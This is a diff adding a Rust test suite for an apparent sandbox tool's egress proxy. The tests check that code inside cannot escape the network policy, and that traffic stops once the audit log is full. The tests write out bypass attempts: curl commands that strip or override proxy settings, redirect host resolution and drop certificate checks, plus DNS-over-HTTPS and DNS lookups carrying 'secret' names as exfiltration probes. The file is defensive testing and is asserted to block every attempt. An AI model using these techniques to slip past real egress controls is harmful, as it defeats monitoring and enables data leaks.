@@ -1,0 +1,138 @@
+//! NT2, NT6 and NT7 with a hatch to the web: names, descriptors and settings by which somebody inside might get further than it
+//! leads.
+
+use super::{Server, policy};
+use crate::BELLJAR;
+use belljar_testkit::world::{Ran, World};
+
+/// Hands the writing end of a pipe to whoever is at the other end of a socket, and tells whether anybody has kept it.
+const HAND_OVER: &str = r#"
+import array, os, select, socket, sys
+def is_kept(s):
+    r, w = os.pipe()
+    s.sendmsg([b'GET http://other.example/ HTTP/1.1\r\n'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [w]))])
+    os.close(w)
+    return r
+s = socket.socket(socket.AF_UNIX)
+s.connect('/web-sock/web.sock')
+r = is_kept(s)
+# It ends when the last who might write to it is gone.
+print('given up' if select.select([r], [], [], 60)[0] and os.read(r, 1) == b'' else 'kept')
+s.sendall(b'Host: other.example\r\n\r\n')
+print(s.recv(65536).split(b' ')[1].decode())
+# The control: somebody who takes it.
+near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+r = is_kept(near)
+_, ancillary, _, _ = far.recvmsg(4096, socket.CMSG_SPACE(4))
+os.write(array.array('i', ancillary[0][2])[0], b'!')
+print(os.read(r, 1).decode())
+"#;
+
+#[test]
+fn a_descriptor_that_is_handed_to_the_proxy_is_taken_by_nobody() {
+    let world = World::new(BELLJAR);
+    policy(&world, "[{host: allowed.example}]");
+    let ran = world.run(&["exec", "--egress", "policy.yaml", "--", "python3", "-c", HAND_OVER]);
+    assert_eq!((ran.code, ran.stdout.as_str()), (0, "given up\n403\n!\n"), "{ran:?}");
+}
+
+/// Takes the proxy's place in the network, beside it and before it.
+const TAKE_PLACE: &str = r#"
+import errno, socket
+def bind(address, *options):
+    s = socket.socket(socket.AF_INET6 if ':' in address[0] else socket.AF_INET)
+    for option in options: s.setsockopt(socket.SOL_SOCKET, option, 1)
+    try: s.bind(address); s.listen(); return 'bound'
+    except OSError as error: return errno.errorcode[error.errno]
+REUSE = (socket.SO_REUSEADDR, socket.SO_REUSEPORT)
+print(bind(('127.0.0.1', 3128)), bind(('127.0.0.1', 3128), *REUSE), bind(('0.0.0.0', 3128), *REUSE), bind(('127.0.0.1', 3129)))
+"#;
+
+#[test]
+fn nobody_inside_listens_where_the_proxy_does() {
+    let world = World::new(BELLJAR);
+    policy(&world, "[{host: allowed.example}]");
+    let ran = world.run(&["exec", "--egress", "policy.yaml", "--", "python3", "-c", TAKE_PLACE]);
+    assert_eq!(ran.stdout, "EADDRINUSE EADDRINUSE EADDRINUSE bound\n", "{ran:?}");
+    // The control: where there is no hatch its port is free.
+    let ran = world.run(&["exec", "--", "python3", "-c", TAKE_PLACE]);
+    assert!(ran.stdout.starts_with("bound "), "{ran:?}");
+}
+
+#[test]
+fn no_setting_inside_leads_further_than_the_policy() {
+    let (world, server) = (World::new(BELLJAR), Server::start());
+    let port = server.address.port();
+    policy(&world, "[{host: allowed.example}]");
+    let beside = [
+        // Without the variables, or with others.
+        format!("env -i curl -sf http://127.0.0.1:{port}/"),
+        format!(
+            "env -i HTTP_PROXY=http://127.0.0.1:{port} http_proxy=http://127.0.0.1:{port} curl -sf http://any.example/"
+        ),
+        format!("NO_PROXY=\\* no_proxy=\\* curl -sf http://127.0.0.1:{port}/"),
+        // With names of one's own.
+        format!(
+            "echo 'mine 127.0.0.1' > /tmp/hosts; HOSTALIASES=/tmp/hosts curl -sf --noproxy '*' http://mine:{port}/"
+        ),
+        format!("curl -sf --resolve any.example:{port}:127.0.0.1 --noproxy '*' http://any.example:{port}/"),
+        format!("unset NO_PROXY no_proxy; curl -sf -H 'Host: allowed.example' http://127.0.0.1:{port}/"),
+        format!(
+            "unset NO_PROXY no_proxy; curl -sf --connect-to allowed.example:80:127.0.0.1:{port} http://allowed.example/ --proxytunnel"
+        ),
+        // By a resolver of one's own, which is asked by the web.
+        "curl -sf 'https://dns.example/dns-query?name=secret.example'".to_owned(),
+        "python3 -c \"import socket; socket.getaddrinfo('secret.other.example', 80)\"".to_owned(),
+        // With an authority of one's own: who is trusted inside is no matter of who may be reached.
+        format!("unset NO_PROXY no_proxy; SSL_CERT_FILE=/dev/null curl -skf https://127.0.0.1:{port}/"),
+        // Through the proxy to itself.
+        "unset NO_PROXY no_proxy; curl -sf http://127.0.0.1:3128/".to_owned(),
+    ];
+    for attempt in &beside {
+        let ran = world.run(&["exec", "--egress", "policy.yaml", "--", "sh", "-c", attempt]);
+        assert!(ran.code != 0 && ran.stdout.is_empty(), "{attempt}: {ran:?}");
+    }
+    assert_eq!(server.asked(), 0);
+    // The control: on the host there is nothing in the way of the first ones.
+    for attempt in &beside[..3] {
+        let ran = world.command_of("/bin/sh".as_ref(), &["-c", attempt]).output().unwrap();
+        assert_eq!(ran.stdout, b"hello\n", "{attempt}: {ran:?}");
+    }
+}
+
+/// Asks for a page again and again, until it is told no or has enough, and prints each status.
+const ASK_ON: &str = r#"
+import os, urllib.request, urllib.error
+for name in ('NO_PROXY', 'no_proxy'): os.environ.pop(name)
+for _ in range(400):
+    try: print(urllib.request.urlopen(os.environ['THERE']).status)
+    except urllib.error.HTTPError as error:
+        print(error.code, error.read().decode())
+        break
+"#;
+
+/// PX9: the audit's file can't grow beyond so many bytes, as on a disk that is full.
+#[test]
+fn when_the_audit_is_full_nobody_is_let_out_any_more() {
+    let (world, server) = (World::new(BELLJAR), Server::start());
+    let port = server.address.port();
+    policy(&world, &format!("[{{host: localhost, ports: [{port}], networks: [127.0.0.0/8, \"::1\"]}}]"));
+    let ask = |bytes: &str| {
+        let script = format!(
+            "trap '' XFSZ; ulimit -f {bytes}; exec {BELLJAR} exec --egress policy.yaml -e THERE=http://localhost:{port}/ -- python3 -c \"$ASK\""
+        );
+        let mut command = world.command_of("/bin/sh".as_ref(), &["-c", &script]);
+        Ran::from(command.env("ASK", ASK_ON).output().unwrap())
+    };
+    let full = ask("128");
+    let through = full.stdout.matches("200\n").count();
+    assert!((1..400).contains(&through), "{through}: {:.300}", full.stderr);
+    assert!(full.stdout.contains("503 ") && full.stdout.contains("recording_unavailable"), "{full:?}");
+    assert_eq!(server.heard(), through);
+    // Whoever was let through is in the audit, and what could not be recorded is told.
+    let begun = world.run(&["audit", "show", "--json", "--kind", "egress_begun"]).succeeded();
+    assert!(begun.stdout.lines().count() >= through, "{} of {through}", begun.stdout.lines().count());
+    assert!(full.code != 0 && full.stderr.contains("belljar: "), "{full:?}");
+    // The control: where it may grow all are let through.
+    assert_eq!(ask("unlimited").stdout, "200\n".repeat(400));
+}
